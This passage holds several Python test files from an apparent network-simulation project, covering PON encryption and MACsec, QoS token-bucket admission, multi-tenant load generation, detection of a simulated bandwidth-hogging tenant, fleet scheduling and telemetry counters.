        states = [e.get("state") for e in bus.history("qos.backpressure")]
        assert states == ["asserted", "cleared", "asserted"]


class _CountingQos(QosEnforcer):
    """Counts watermark checks, to pin the drain-path fast exit."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.watermark_checks = 0

    def _check_backpressure(self, policy, now):
        self.watermark_checks += 1
        super()._check_backpressure(policy, now)


class TestDrainSkipsNoopWatermarkCheck:
    def test_no_check_when_queue_is_empty(self):
        qos = _CountingQos()
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000)
        qos.admit([], now=0.1)
        assert qos.watermark_checks == 0

    def test_no_check_when_nothing_can_be_released(self):
        qos = _CountingQos()
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=10_000)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 800, 0.0), now=0.0)      # queued: one check
        checks_after_submit = qos.watermark_checks
        assert checks_after_submit == 1
        qos.admit([], now=0.0)       # no refill, nothing drains: no check
        assert qos.watermark_checks == checks_after_submit

    def test_check_runs_when_something_is_released(self):
        qos = _CountingQos()
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=10_000)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 800, 0.0), now=0.0)
        checks_after_submit = qos.watermark_checks
        released = qos.admit([], now=0.001)      # refill releases the head
        assert released
        assert qos.watermark_checks == checks_after_submit + 1


_admit_cycles = st.lists(
    st.lists(st.tuples(st.integers(min_value=0, max_value=1),
                       st.integers(min_value=1, max_value=2000)),
             min_size=0, max_size=12),
    min_size=1, max_size=6)


class TestVectorizedAdmitMatchesReference:
    """The vectorized admit path must be outcome-identical to the
    per-request reference: same admitted lists, same policy/bucket state
    (exact float equality — token spends do not commute), and the same
    per-tenant event stream."""

    @staticmethod
    def _enforcer():
        bus = EventBus()
        qos = QosEnforcer(bus=bus, registry=telemetry.MetricsRegistry())
        for tenant in ("t0", "t1"):
            qos.add_tenant(tenant, rate_bps=8e6, burst_bytes=1000,
                           queue_limit_bytes=3000)
        return qos, bus

    @staticmethod
    def _tenant_events(bus, tenant):
        return [(e.topic, e.timestamp, e.payload) for e in bus.history()
                if e.payload.get("tenant") == tenant]

    @given(_admit_cycles)
    @settings(max_examples=50, deadline=None)
    def test_outcomes_state_and_events_match(self, cycles):
        fast, fast_bus = self._enforcer()
        reference, reference_bus = self._enforcer()
        for index, cycle in enumerate(cycles):
            now = index * 0.02
            requests = [Request(f"t{t}", size, now) for t, size in cycle]
            assert (fast.admit(list(requests), now)
                    == reference.admit_reference(list(requests), now))
        for tenant in ("t0", "t1"):
            a, b = fast.policy(tenant), reference.policy(tenant)
            assert a.admitted_bytes == b.admitted_bytes
            assert a.dropped_requests == b.dropped_requests
            assert a.dropped_bytes == b.dropped_bytes
            assert a.queued_bytes == b.queued_bytes
            assert list(a.queue) == list(b.queue)
            assert a.backpressured == b.backpressured
            assert a.bucket._tokens == b.bucket._tokens
            assert (self._tenant_events(fast_bus, tenant)
                    == self._tenant_events(reference_bus, tenant))

    @given(_admit_cycles)
    @settings(max_examples=30, deadline=None)
    def test_batched_telemetry_totals_match(self, cycles):
        fast, _ = self._enforcer()
        reference, _ = self._enforcer()
        for index, cycle in enumerate(cycles):
            now = index * 0.02
            requests = [Request(f"t{t}", size, now) for t, size in cycle]
            fast.admit(list(requests), now)
            reference.admit_reference(list(requests), now)
        for metric in ("traffic_requests_total", "traffic_bytes_total"):
            for tenant in ("t0", "t1"):
                for outcome in ("admitted", "released", "dropped"):
                    assert (fast._metrics.get(metric)
                            .labels(tenant=tenant, direction="upstream",
                                    outcome=outcome).value
                            == reference._metrics.get(metric)
                            .labels(tenant=tenant, direction="upstream",
                                    outcome=outcome).value)
        for metric in ("traffic_queued_requests_total",
                       "traffic_queued_bytes_total"):
            for tenant in ("t0", "t1"):
                assert (fast._metrics.get(metric)
                        .labels(tenant=tenant, direction="upstream").value
                        == reference._metrics.get(metric)
                        .labels(tenant=tenant, direction="upstream").value)


# ---------------------------------------------------------------------------
# Load generation end-to-end
# ---------------------------------------------------------------------------


class TestLoadGenerator:
    def test_equal_tenants_share_equally(self):
        report = run_traffic_experiment(n_tenants=3, seconds=0.5,
                                        hostile=False)
        assert report.jain() > 0.95
        for row in report.tenants.values():
            assert row.delivered_bytes <= row.offered_bytes

    def test_hostile_clamped_under_qos_and_dba(self):
        report = run_traffic_experiment(n_tenants=4, seconds=0.5)
        hostile = report.tenants["tenant-hostile"]
        assert hostile.delivered_bytes < 0.2 * hostile.offered_bytes
        assert hostile.dropped_requests > 0
        assert report.jain() > 0.9

    def test_hostile_monopolizes_without_defenses(self):
        report = run_traffic_experiment(n_tenants=4, seconds=0.5,
                                        dba=False, qos=False)
        hostile = report.tenants["tenant-hostile"]
        assert hostile.bandwidth_share > 0.5
        assert report.jain() < 0.6

    def test_deterministic_replay(self):
        first = run_traffic_experiment(n_tenants=2, seconds=0.3, seed=3)
        telemetry.reset_default_registry()
        second = run_traffic_experiment(n_tenants=2, seconds=0.3, seed=3)
        assert first.tenants == second.tenants

    def test_load_accounted_on_the_pon_plant(self):
        from repro.pon.network import PonNetwork
        network = PonNetwork.build("olt-t")
        specs = [TenantSpec(tenant="t-1", serial="S1")]
        LoadGenerator(network, specs).run(0.2)
        assert network.stats.upstream_bytes > 0
        registry = telemetry.default_registry()
        assert registry.get("pon_bytes_total").labels(
            direction="upstream").value > 0

    def test_runs_through_genio_deployment(self):
        from repro.platform import build_genio_deployment
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=3)
        report = run_genio_traffic(deployment, seconds=0.2)
        assert len(report.tenants) == 3
        assert any(row.profile == "hostile"
                   for row in report.tenants.values())

    def test_duplicate_tenant_names_rejected(self):
        from repro.pon.network import PonNetwork
        network = PonNetwork.build()
        specs = [TenantSpec(tenant="t", serial="S1"),
                 TenantSpec(tenant="t", serial="S2")]
        with pytest.raises(ValueError, match="unique"):
            LoadGenerator(network, specs)

    def test_jain_index_bounds(self):
        assert jain_index([5, 5, 5]) == pytest.approx(1.0)
        assert jain_index([1, 0, 0, 0]) == pytest.approx(0.25)
        assert jain_index([]) == 1.0


# ---------------------------------------------------------------------------
# Metrics-driven abuse detection (the rewired ResourceAbuseDetector)
# ---------------------------------------------------------------------------


class TestMetricsDrivenAbuseDetection:
    def _registry_with_shares(self, shares, metric=OFFERED_SHARE_GAUGE):
        registry = telemetry.MetricsRegistry()
        gauge = registry.gauge(metric, "", ("tenant",))
        for tenant, share in shares.items():
            gauge.set(share, tenant=tenant)
        return registry

    def test_flags_only_the_noisy_tenant(self):
        registry = self._registry_with_shares(
            {"t-1": 0.05, "t-2": 0.05, "t-3": 0.05, "t-bad": 0.85})
        detector = ResourceAbuseDetector(registry=registry)
        findings = detector.sample_metrics()
        assert [f.tenant for f in findings] == ["t-bad"]
        assert findings[0].metric == OFFERED_SHARE_GAUGE
        assert findings[0].bandwidth_share == 0.85

    def test_cpu_metric_lands_in_cpu_share(self):
        registry = self._registry_with_shares({"t-bad": 0.95},
                                              metric=CPU_SHARE_GAUGE)
        findings = ResourceAbuseDetector(registry=registry).sample_metrics()
        assert findings and findings[0].cpu_share == 0.95

    def test_single_tenant_saturation_flagged_by_absolute_cap(self):
        registry = self._registry_with_shares({"t-only": 0.95})
        findings = ResourceAbuseDetector(registry=registry).sample_metrics()
        assert [f.tenant for f in findings] == ["t-only"]
        assert "absolute cap" in findings[0].detail

    def test_fair_shares_not_flagged(self):
        registry = self._registry_with_shares(
            {"t-1": 0.34, "t-2": 0.33, "t-3": 0.33})
        assert ResourceAbuseDetector(
            registry=registry).sample_metrics() == []

    def test_findings_published_and_correlated(self):
        bus = EventBus()
        correlator = LiveCorrelator(bus)
        registry = self._registry_with_shares(
            {"t-1": 0.04, "t-bad": 0.92})
        detector = ResourceAbuseDetector(registry=registry, bus=bus)
        detector.sample_metrics(now=10.0)
        incidents = correlator.incidents()
        assert len(incidents) == 1
        assert incidents[0].key == "t-bad"
        assert incidents[0].alerts[0].rule == "resource_abuse"

    def test_traffic_run_feeds_detector_end_to_end(self):
        run_traffic_experiment(n_tenants=4, seconds=0.3)
        detector = ResourceAbuseDetector()   # process-wide registry
        flagged = {f.tenant for f in detector.sample_metrics()}
        assert flagged == {"tenant-hostile"}

    def test_runtime_cpu_shares_via_observe_runtime(self):
        from repro.platform.workloads import ml_inference_image
        from repro.virt.container import ContainerSpec
        from repro.virt.runtime import ContainerRuntime
        registry = telemetry.MetricsRegistry()
        runtime = ContainerRuntime("node", cpu_capacity=8.0)
        greedy = runtime.run(ContainerSpec(image=ml_inference_image(),
                                           tenant="t-greedy"))
        runtime.consume(greedy.id, cpu=7.8)
        TrafficTelemetry(registry=registry).observe_runtime(runtime)
        findings = ResourceAbuseDetector(registry=registry).sample_metrics()
        assert [f.tenant for f in findings] == ["t-greedy"]

    def test_metrics_path_without_runtime_or_registry(self):
        telemetry.set_telemetry_enabled(False)
        detector = ResourceAbuseDetector()
        assert detector.sample_metrics() == []
        with pytest.raises(ValueError, match="no runtime"):
            detector.sample()

    def test_persistence_suppresses_transient_spikes(self):
        registry = self._registry_with_shares(
            {"t-1": 0.05, "t-2": 0.05, "t-3": 0.05, "t-bad": 0.85})
        gauge = registry.get(OFFERED_SHARE_GAUGE)
        detector = ResourceAbuseDetector(registry=registry, persistence=2)
        # Pass 1: t-bad breaches but has no streak yet — suppressed.
        assert detector.sample_metrics() == []
        # The spike subsides before pass 2: streak resets, never flagged.
        gauge.set(0.1, tenant="t-bad")
        assert detector.sample_metrics() == []
        # A sustained breach is flagged on the second consecutive pass.
        gauge.set(0.85, tenant="t-bad")
        assert detector.sample_metrics() == []
        assert [f.tenant for f in detector.sample_metrics()] == ["t-bad"]

    def test_persistence_must_be_positive(self):
        with pytest.raises(ValueError, match="persistence"):
            ResourceAbuseDetector(persistence=0)


# ---------------------------------------------------------------------------
# CLI
# ---------------------------------------------------------------------------


class TestTrafficCli:
    def test_traffic_command_prints_report(self, capsys):
        from repro.__main__ import main
        assert main(["traffic", "--tenants", "2",
                     "--seconds", "0.2", "--metrics"]) == 0
        out = capsys.readouterr().out
        assert "Jain fairness index" in out
        assert "tenant-hostile" in out
        assert "metrics-driven abuse findings: tenant-hostile" in out
        assert "traffic_tenant_offered_share" in out

    def test_usage_errors_exit_2(self, capsys):
        from repro.__main__ import main
        assert main(["traffic", "--tenants", "0"]) == 2
        assert main(["traffic", "--seconds", "-1"]) == 2
        err = capsys.readouterr().err
        assert "error:" in err


# ---------------------------------------------------------------------------
# Terminal-outcome invariant, clock regressions, drain-path events (PR 5)
# ---------------------------------------------------------------------------


class TestTokenBucketClockRegression:
    """A backwards-moving ``now`` must never mint tokens."""

    def test_backwards_now_mints_nothing(self):
        bucket = TokenBucket(rate_bps=8000, burst_bytes=1000)   # 1000 B/s
        assert bucket.allow(1000, now=1.0)                      # drained
        assert bucket.tokens == 0.0
        assert not bucket.allow(1, now=0.5)                     # clock back
        assert bucket.tokens == 0.0
        assert bucket._last_refill == 1.0                       # high-water

    def test_refill_resumes_from_high_water_mark(self):
        bucket = TokenBucket(rate_bps=8000, burst_bytes=1000)
        bucket.allow(1000, now=1.0)
        bucket.allow(1, now=0.5)                # no-op regression
        bucket._refill(1.2)                     # 0.2 s past the mark
        assert bucket.tokens == pytest.approx(200.0)


class TestTerminalOutcomeInvariant:
    """sum(traffic_requests_total over outcomes) == offered requests.

    ``queued`` is transient (counted in traffic_queued_requests_total);
    every offered request ends as exactly one of admitted / released /
    dropped, so the terminal counter family sums to the offered count.
    """

    def test_requests_total_sums_to_offered(self):
        registry = telemetry.MetricsRegistry()
        qos = QosEnforcer(registry=registry)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=2000,
                       queue_limit_bytes=3000)
        offered = 0
        for index in range(40):
            now = index * 0.001
            batch = [Request("t", 700, now), Request("t", 900, now)]
            offered += len(batch)
            qos.admit(batch, now)
        # Each refill mints at most burst_bytes tokens, so flush twice to
        # guarantee the queue (up to queue_limit_bytes deep) fully drains.
        qos.admit([], now=10.0)
        qos.admit([], now=20.0)
        counter = registry.get("traffic_requests_total")
        by_outcome = {
            outcome: counter.labels(tenant="t", direction="upstream",
                                    outcome=outcome).value
            for outcome in ("admitted", "released", "dropped")}
        assert by_outcome["released"] > 0       # the drain path did fire
        assert sum(by_outcome.values()) == offered
        assert counter.total() == offered

    def test_reference_path_holds_the_same_invariant(self):
        registry = telemetry.MetricsRegistry()
        qos = QosEnforcer(registry=registry)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=2000,
                       queue_limit_bytes=3000)
        offered = 0
        for index in range(40):
            now = index * 0.001
            batch = [Request("t", 700, now), Request("t", 900, now)]
            offered += len(batch)
            qos.admit_reference(batch, now)
        qos.admit_reference([], now=10.0)
        qos.admit_reference([], now=20.0)
        assert registry.get("traffic_requests_total").total() == offered


class TestDrainPathEvents:
    def test_cleared_emitted_exactly_once_for_multi_request_drain(self):
        bus = EventBus()
        qos = QosEnforcer(bus=bus)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=2000,
                       queue_limit_bytes=2000)
        qos.submit(Request("t", 2000, 0.0), now=0.0)    # drains the bucket
        for _ in range(4):                              # queue at 100%
            assert qos.submit(Request("t", 500, 0.0), now=0.0) == "queued"
        released = qos.admit([], now=0.01)      # refills the full 2000 burst
        assert len(released) == 4                       # everything drains
        states = [e.get("state") for e in bus.history("qos.backpressure")]
        assert states == ["asserted", "cleared"]

    def test_drain_releases_one_counter_inc_per_cycle(self):
        registry = telemetry.MetricsRegistry()
        qos = QosEnforcer(registry=registry)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=2000,
                       queue_limit_bytes=2000)
        qos.submit(Request("t", 2000, 0.0), now=0.0)
        for _ in range(4):
            qos.submit(Request("t", 500, 0.0), now=0.0)
        qos.admit([], now=0.01)
        counter = registry.get("traffic_requests_total")
        released = counter.labels(tenant="t", direction="upstream",
                                  outcome="released")
        assert released.value == 4

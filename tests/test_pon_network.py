"""Unit and integration tests for the PON substrate."""

import pytest

from repro.common import crypto
from repro.common.errors import AuthenticationError, IntegrityError, NotFoundError
from repro.pon.fiber import EthernetLink, FiberSpan, FiberTap
from repro.pon.frames import Frame, FrameKind, GemFrame
from repro.pon.gpon import GponDecryptor, GponKeyServer
from repro.pon.macsec import MacsecChannel, MacsecPair, derive_sak
from repro.pon.network import PonNetwork
from repro.pon.olt import Olt
from repro.pon.onu import Onu


@pytest.fixture
def network():
    net = PonNetwork.build("olt-test", n_ports=1)
    net.attach_onu(Onu("ONU-A", premises="home-a"))
    net.attach_onu(Onu("ONU-B", premises="home-b"))
    return net


class TestFrames:
    def test_frame_with_payload_copy(self):
        frame = Frame(src="a", dst="b", payload=b"x")
        updated = frame.with_payload(b"yy", secure=True)
        assert frame.payload == b"x" and not frame.secure
        assert updated.payload == b"yy" and updated.secure

    def test_frame_with_header(self):
        frame = Frame(src="a", dst="b").with_header("pn", 3)
        assert frame.headers["pn"] == 3

    def test_sizes_include_overhead(self):
        frame = Frame(src="a", dst="b", payload=b"12345")
        assert frame.size == 23
        assert GemFrame(gem_port=1, inner=frame).size == 28


class TestGponEncryption:
    def test_key_establish_and_roundtrip(self):
        server = GponKeyServer()
        server.establish(1000)
        gem = GemFrame(gem_port=1000, inner=Frame("olt", "onu", payload=b"secret"))
        encrypted = server.encrypt(gem)
        assert encrypted.encrypted and encrypted.inner.payload != b"secret"

        dec = GponDecryptor()
        key, index = server.export_key(1000)
        dec.install_key(1000, key, index)
        assert dec.decrypt(encrypted).payload == b"secret"

    def test_rotation_bumps_index_and_old_key_fails(self):
        server = GponKeyServer()
        first = server.establish(1)
        dec = GponDecryptor()
        dec.install_key(1, first.key, first.index)
        server.rotate(1)
        gem = server.encrypt(GemFrame(gem_port=1, inner=Frame("o", "u", payload=b"p")))
        with pytest.raises(IntegrityError):
            dec.decrypt(gem)

    def test_unknown_port_errors(self):
        server = GponKeyServer()
        with pytest.raises(NotFoundError):
            server.key_for(99)
        with pytest.raises(NotFoundError):
            server.rotate(99)
        with pytest.raises(NotFoundError):
            GponDecryptor().decrypt(
                GemFrame(gem_port=5, inner=Frame("a", "b"), encrypted=True)
            )

    def test_unencrypted_frame_passthrough(self):
        frame = Frame("a", "b", payload=b"clear")
        assert GponDecryptor().decrypt(GemFrame(gem_port=1, inner=frame)) is frame


class TestMacsec:
    def test_protect_validate_roundtrip(self):
        sak = derive_sak(b"shared", "link-1")
        sender, receiver = MacsecChannel(sak), MacsecChannel(sak)
        frame = Frame("olt-1", "cloud", payload=b"telemetry")
        protected = sender.protect(frame)
        assert protected.secure and protected.payload != b"telemetry"
        assert receiver.validate(protected).payload == b"telemetry"

    def test_replay_rejected(self):
        sak = b"s" * 32
        sender, receiver = MacsecChannel(sak), MacsecChannel(sak)
        protected = sender.protect(Frame("a", "b", payload=b"x"))
        receiver.validate(protected)
        with pytest.raises(IntegrityError):
            receiver.validate(protected)
        assert receiver.stats.replayed == 1

    def test_replay_allowed_when_protection_off(self):
        sak = b"s" * 32
        sender = MacsecChannel(sak)
        receiver = MacsecChannel(sak, replay_protect=False)
        protected = sender.protect(Frame("a", "b", payload=b"x"))
        receiver.validate(protected)
        assert receiver.validate(protected).payload == b"x"

    def test_wrong_sak_rejected(self):
        protected = MacsecChannel(b"k1" * 16).protect(Frame("a", "b", payload=b"x"))
        with pytest.raises(IntegrityError):
            MacsecChannel(b"k2" * 16).validate(protected)

    def test_missing_pn_rejected(self):
        receiver = MacsecChannel(b"k" * 32)
        with pytest.raises(IntegrityError):
            receiver.validate(Frame("a", "b", payload=b"raw"))

    def test_derive_sak_is_link_specific(self):
        assert derive_sak(b"s", "l1") != derive_sak(b"s", "l2")

    def test_pair_has_independent_directions(self):
        pair = MacsecPair(b"k" * 32)
        f1 = pair.a_to_b.protect(Frame("a", "b", payload=b"1"))
        f2 = pair.b_to_a.protect(Frame("b", "a", payload=b"2"))
        assert pair.b_to_a.validate(f2).payload == b"2"
        assert pair.a_to_b.validate(f1).payload == b"1"


class TestOltActivation:
    def test_serial_mode_accepts_provisioned(self, network):
        assert network.onus["ONU-A"].activated
        assert network.olt.activation_log[-1].accepted

    def test_unprovisioned_serial_rejected(self):
        net = PonNetwork.build()
        with pytest.raises(AuthenticationError):
            net.olt.activate_onu(0, Onu("UNKNOWN"))

    def test_duplicate_port_rejected(self):
        net = PonNetwork.build()
        with pytest.raises(ValueError):
            net.olt.add_port(0, net.span(0))

    def test_missing_port_rejected(self, network):
        with pytest.raises(NotFoundError):
            network.olt.activate_onu(7, Onu("ONU-A"))

    def test_certificate_mode_without_verifier_rejects(self):
        olt = Olt("olt-x", auth_mode="certificate")
        span = FiberSpan("s", olt._clock)
        olt.add_port(0, span)
        olt.provision_serial("ONU-A")
        with pytest.raises(AuthenticationError):
            olt.activate_onu(0, Onu("ONU-A"))

    def test_invalid_auth_mode_rejected(self):
        with pytest.raises(ValueError):
            Olt("bad", auth_mode="open")


class TestTrafficFlow:
    def test_downstream_broadcast_reaches_only_owner(self, network):
        network.send_downstream("ONU-A", b"hello A")
        assert network.delivered_to("ONU-A")[0].payload == b"hello A"
        assert network.delivered_to("ONU-B") == []

    def test_plaintext_visible_to_tap(self, network):
        tap = FiberTap(name="t")
        network.span().attach_tap(tap)
        network.send_downstream("ONU-A", b"visible")
        assert tap.captured[0].inner.payload == b"visible"

    def test_encrypted_hidden_from_tap_but_delivered(self):
        net = PonNetwork.build()
        net.olt.enable_encryption()
        net.attach_onu(Onu("ONU-A"))
        tap = FiberTap(name="t")
        net.span().attach_tap(tap)
        net.send_downstream("ONU-A", b"secret")
        assert tap.captured[0].encrypted
        assert tap.captured[0].inner.payload != b"secret"
        assert net.delivered_to("ONU-A")[0].payload == b"secret"

    def test_other_onu_cannot_decrypt_foreign_flow(self):
        net = PonNetwork.build()
        net.olt.enable_encryption()
        net.attach_onu(Onu("ONU-A"))
        net.attach_onu(Onu("ONU-B"))
        net.send_downstream("ONU-A", b"for A only")
        assert net.onus["ONU-B"].undecryptable == 1
        assert net.delivered_to("ONU-B") == []

    def test_upstream_reaches_olt(self, network):
        network.send_upstream("ONU-A", b"meter reading")
        assert network.olt.upstream_frames[0].payload == b"meter reading"

    def test_upstream_from_inactive_rejected(self):
        net = PonNetwork.build()
        with pytest.raises(ValueError):
            net.send_upstream("GHOST", b"x")

    def test_stats_accumulate(self, network):
        for _ in range(10):
            network.send_downstream("ONU-A", b"x" * 100)
        assert network.stats.frames_sent == 10
        assert network.stats.bytes_sent == 10 * 123
        assert network.stats.goodput_bps > 0

    def test_send_downstream_does_not_advance_the_clock(self, network):
        # Regression: send_downstream used to mutate global time as a
        # side effect; delivery is now synchronous and time belongs to
        # the scheduler.
        before = network.clock.now
        network.send_downstream("ONU-A", b"x" * 1000)
        assert network.clock.now == before

    def test_networks_sharing_a_clock_do_not_skew_each_other(self):
        # Two OLT shards on one fleet clock: traffic on one must not
        # shift the timestamps the other observes.
        from repro.common.clock import SimClock
        clock = SimClock()
        first = PonNetwork.build("olt-1", clock=clock)
        second = PonNetwork.build("olt-2", clock=clock)
        first.attach_onu(Onu("ONU-1A"))
        clock.advance(5.0)
        for _ in range(50):
            first.send_downstream("ONU-1A", b"x" * 1000)
        # The second plant's activation audit log stamps the shared
        # clock — still t=5.0, untouched by the first plant's traffic.
        second.attach_onu(Onu("ONU-2A"))
        assert second.olt.activation_log[-1].timestamp == 5.0
        assert clock.now == 5.0
        assert first.stats.frames_sent == 50

    def test_ethernet_link_carries_and_taps(self):
        from repro.common.clock import SimClock
        link = EthernetLink("l", SimClock())
        got = []
        link.attach_receiver(got.append)
        tap = FiberTap(name="t")
        link.attach_tap(tap)
        delay = link.transmit(Frame("a", "b", payload=b"x" * 100), 118)
        assert got and tap.captured and delay > 0
        assert link.tapped
        link.detach_tap(tap)
        assert not link.tapped


class TestWireBytesAccounting:
    """stats.bytes_sent and pon_bytes_total must agree byte for byte.

    Regression: the network layer used to account a re-derived
    ``len(payload) + 5 + 18`` while the OLT counter accounted the
    post-encryption ``gem.size`` — with G.987.3 encryption on (48 bytes
    of AEAD expansion) the two silently diverged.
    """

    @pytest.fixture(autouse=True)
    def _fresh_registry(self):
        from repro.common import telemetry
        telemetry.reset_default_registry()
        telemetry.set_telemetry_enabled(True)
        yield
        telemetry.reset_default_registry()
        telemetry.set_telemetry_enabled(True)

    def _counter_value(self):
        from repro.common import telemetry
        counter = telemetry.default_registry().get("pon_bytes_total")
        return counter.labels(direction="downstream").value

    def test_stats_match_counter_with_encryption(self):
        net = PonNetwork.build()
        net.olt.enable_encryption()
        net.attach_onu(Onu("ONU-A"))
        for _ in range(7):
            net.send_downstream("ONU-A", b"x" * 100)
        # 100 payload + 18 frame header + 5 GEM header + 48 AEAD
        assert net.stats.bytes_sent == 7 * 171
        assert net.stats.bytes_sent == self._counter_value()

    def test_stats_match_counter_without_encryption(self):
        net = PonNetwork.build()
        net.attach_onu(Onu("ONU-A"))
        for _ in range(7):
            net.send_downstream("ONU-A", b"x" * 100)
        assert net.stats.bytes_sent == 7 * 123
        assert net.stats.bytes_sent == self._counter_value()

    def test_size_override_accounts_full_wire_size(self):
        net = PonNetwork.build()
        net.attach_onu(Onu("ONU-A"))
        net.send_downstream("ONU-A", b"", size_override=50_000)
        # override replaces the payload+header size; + 5 GEM header
        assert net.stats.bytes_sent == 50_005
        assert net.stats.bytes_sent == self._counter_value()

"""The multi-OLT fleet driver: concurrent shards under one scheduler,
fleet-normalized abuse detection, and the fleet CLI subcommand."""

import pytest

from repro.security.comms.keyrotation import KeyRotationService
from repro.traffic.fleet import (
    FleetDriver, fleet_tenant_specs, run_fleet_experiment,
)


def small_fleet(**overrides):
    defaults = dict(n_olts=2, n_tenants=6, seed=3)
    defaults.update(overrides)
    return FleetDriver(**defaults)


class TestFleetTenantSpecs:
    def test_names_are_fleet_unique_and_profiles_rotate(self):
        one = fleet_tenant_specs(1, 4, hostile=False)
        two = fleet_tenant_specs(2, 4, hostile=False)
        names = [s.tenant for s in one + two]
        assert len(set(names)) == len(names)
        serials = [s.serial for s in one + two]
        assert len(set(serials)) == len(serials)
        assert [s.profile for s in one] == ["steady", "bursty", "diurnal",
                                           "steady"]

    def test_hostile_replaces_last_slot(self):
        specs = fleet_tenant_specs(1, 3, hostile=True)
        assert specs[-1].profile == "hostile"
        assert specs[-1].tenant == "olt1-tenant-hostile"
        assert specs[-1].priority == 3

    def test_empty_shard_rejected(self):
        with pytest.raises(ValueError):
            fleet_tenant_specs(1, 0, hostile=False)


class TestFleetDriver:
    def test_tenants_split_across_shards_with_remainder_first(self):
        driver = FleetDriver(n_olts=4, n_tenants=10, seed=0)
        counts = [len(shard.specs) for shard in driver.shards]
        assert counts == [3, 3, 2, 2]
        assert sum(counts) == 10

    def test_shards_share_one_scheduler_and_clock(self):
        driver = small_fleet()
        assert len({id(s.generator.sim) for s in driver.shards}) == 1
        assert len({id(s.network.clock) for s in driver.shards}) == 1
        assert driver.shards[0].generator.sim is driver.scheduler

    def test_run_reports_every_shard_concurrently(self):
        driver = small_fleet()
        trace = driver.scheduler.enable_trace()
        report = driver.run(0.2)
        assert sorted(report.olts) == ["olt-1", "olt-2"]
        for olt_report in report.olts.values():
            assert all(row.throughput_bps > 0
                       for row in olt_report.tenants.values())
        # Both shards' cycle tasks fire at the same instants — truly
        # concurrent in simulated time, not sequential runs.
        at_zero = {name for when, name in trace if when == 0.0}
        assert at_zero == {"olt-1/traffic-cycle", "olt-2/traffic-cycle"}
        assert report.fleet_throughput_bps > 0
        assert 0.0 < report.jain_across_olts() <= 1.0

    def test_hostile_flagged_fleet_wide_without_false_positives(self):
        report = small_fleet().run(0.5)
        assert report.hostile_tenants == ["olt1-tenant-hostile"]
        latency = report.alert_latency_s("olt1-tenant-hostile")
        assert latency is not None and 0 < latency <= 0.5
        benign = {spec for olt in report.olts.values()
                  for spec in olt.tenants} - {"olt1-tenant-hostile"}
        assert not benign & set(report.alert_first_at)

    def test_no_hostile_means_no_alerts(self):
        report = small_fleet(hostile=False).run(0.3)
        assert report.hostile_tenants == []
        assert report.alert_first_at == {}
        assert "NOT flagged" not in report.render()

    def test_same_seed_identical_render(self):
        first = small_fleet(seed=11).run(0.3).render()
        second = small_fleet(seed=11).run(0.3).render()
        assert first == second

    def test_fleet_registry_is_local(self):
        driver = small_fleet()
        driver.run(0.2)
        # Shares live in the fleet's own registry; the generators were
        # built with telemetry disabled.
        assert "traffic_tenant_offered_share" in driver.registry
        for shard in driver.shards:
            assert not shard.generator.telemetry.enabled

    def test_security_cadence_rides_the_fleet_scheduler(self):
        driver = small_fleet()
        rotation = KeyRotationService(driver.shards[0].network, period_s=0.1)
        rotation.schedule(driver.scheduler, horizon_s=0.5)
        driver.run(0.5)
        assert len(rotation.history) == 5

    def test_validation(self):
        with pytest.raises(ValueError):
            FleetDriver(n_olts=0)
        with pytest.raises(ValueError):
            FleetDriver(n_olts=4, n_tenants=3)
        with pytest.raises(ValueError):
            small_fleet().run(0.0)


class TestFleetCli:
    def test_fleet_command_prints_fleet_report(self, capsys):
        from repro.__main__ import main
        assert main(["fleet", "--olts", "2", "--tenants", "6",
                     "--seconds", "0.3", "--seed", "5"]) == 0
        out = capsys.readouterr().out
        assert "fleet run: 2 OLTs x 6 tenants" in out
        assert "olt-1" in out and "olt-2" in out
        assert "Jain across OLTs" in out
        assert "abuse alert for olt1-tenant-hostile" in out

    def test_fleet_command_is_deterministic(self, capsys):
        from repro.__main__ import main
        argv = ["fleet", "--olts", "2", "--tenants", "6",
                "--seconds", "0.3", "--seed", "9"]
        assert main(argv) == 0
        first = capsys.readouterr().out
        assert main(argv) == 0
        assert capsys.readouterr().out == first

    def test_usage_errors_exit_2(self, capsys):
        from repro.__main__ import main
        assert main(["fleet", "--olts", "0"]) == 2
        assert main(["fleet", "--olts", "4", "--tenants", "2"]) == 2
        assert main(["fleet", "--seconds", "-1"]) == 2
        assert "error:" in capsys.readouterr().err


class TestRunFleetExperiment:
    def test_convenience_wrapper(self):
        report = run_fleet_experiment(n_olts=2, n_tenants=4, seconds=0.2,
                                      seed=1)
        assert len(report.olts) == 2
        assert report.duration_s == pytest.approx(0.2)

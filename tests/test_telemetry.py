"""Unit tests for the telemetry layer (metrics, spans, exporter)."""

import pytest

from repro.common.clock import SimClock
from repro.common.telemetry import (
    DEFAULT_BUCKETS, MetricsRegistry, Tracer, active_registry,
    default_registry, reset_default_registry, set_telemetry_enabled,
)


@pytest.fixture(autouse=True)
def _fresh_defaults():
    reset_default_registry()
    set_telemetry_enabled(True)
    yield
    reset_default_registry()
    set_telemetry_enabled(True)


class TestCounter:
    def test_unlabeled_counter(self):
        registry = MetricsRegistry()
        counter = registry.counter("jobs_total", "Jobs run.")
        counter.inc()
        counter.inc(2.5)
        assert counter.total() == 3.5

    def test_labeled_counter_splits_series(self):
        registry = MetricsRegistry()
        counter = registry.counter("frames_total", labelnames=("direction",))
        counter.inc(direction="up")
        counter.inc(3, direction="down")
        assert counter.labels(direction="up").value == 1
        assert counter.labels(direction="down").value == 3
        assert counter.total() == 4

    def test_label_cardinality_tracked(self):
        registry = MetricsRegistry()
        counter = registry.counter("events_total", labelnames=("topic",))
        for topic in ("a", "b", "c", "a", "a"):
            counter.inc(topic=topic)
        assert counter.cardinality() == 3
        assert sorted(counter.samples) == [("a",), ("b",), ("c",)]

    def test_wrong_labels_rejected(self):
        registry = MetricsRegistry()
        counter = registry.counter("x_total", labelnames=("tenant",))
        with pytest.raises(ValueError):
            counter.inc(user="mallory")
        with pytest.raises(ValueError):
            counter.inc()   # missing the tenant label

